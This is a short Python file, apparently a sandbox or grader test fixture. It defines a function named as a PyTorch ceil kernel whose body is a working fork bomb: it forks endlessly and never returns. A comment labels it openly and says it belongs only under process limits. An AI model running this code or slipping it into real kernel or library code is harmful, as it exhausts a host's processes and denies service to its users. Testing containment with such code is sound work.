# A fork bomb: every process forks for ever, waiting a little when fork fails. Only a limit on
# processes and the call timeout end it. Run only inside a PID namespace with RLIMIT_NPROC.
import os
import time

import torch


def ceil__default_kernel_impl(x):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
    return torch.ceil(x)
